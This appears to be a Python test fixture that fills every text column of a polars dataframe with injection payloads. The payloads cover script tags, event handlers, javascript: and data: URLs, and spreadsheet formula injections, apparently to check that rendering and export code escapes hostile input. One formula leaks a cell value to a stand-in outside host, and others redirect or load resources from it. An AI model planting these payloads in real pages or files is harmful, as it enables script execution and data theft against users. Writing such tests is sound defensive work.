"""What a stranger may write, hoping that it runs: each would set `done` on the page, or compute in a spreadsheet."""

import polars as pl

PAYLOADS = (
    "<script>window.done=1</script>",
    "</script><script>window.done=1</script>",
    "<img src=x onerror=window.done=1>",
    '"><img src=x onerror="window.done=1">',
    "'><svg onload=window.done=1>",
    "<svg><script>window.done=1</script></svg>",
    "<svg><a xlink:href='javascript:window.done=1'><text>x</text></a></svg>",
    "<a href='javascript:window.done=1'>free car</a>",
    "javascript:window.done=1",
    "[free car](javascript:window.done=1)",
    "<iframe srcdoc='<script>parent.done=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.done=1</script>'></object>",
    "<embed src='data:text/html,<script>parent.done=1</script>'>",
    "<a href='data:text/html,<script>window.done=1</script>'>x</a>",
    "<details open ontoggle=window.done=1>",
    "<input autofocus onfocus=window.done=1>",
    "<body onload=window.done=1>",
    "<math><mtext><img src=x onerror=window.done=1></mtext></math>",
    "<style>@import 'https://outside.example/x.css';</style>",
    "<base href='https://outside.example/'>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/'>",
    "<form action='https://outside.example/'><button autofocus>x</button></form>",
    "&lt;script&gt;window.done=1&lt;/script&gt;",
    "$\\href{javascript:window.done=1}{x}$ costs $5",
    "%{y} <b>bold</b><br>new line<extra></extra>",
    "${window.done=1} {{window.done=1}} `window.done=1`",
    "\u202emirrored\u2066 \x00\x1b]0;x\x07",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://outside.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)


def hostile(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with a payload in every text, ids included, those of one column each another one."""
    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    row = pl.int_range(pl.len())
    return frame.with_columns(
        pl.lit(pl.Series(PAYLOADS)).gather((row + 5 * place) % len(PAYLOADS)).alias(name)
        for place, name in enumerate(texts)
    )
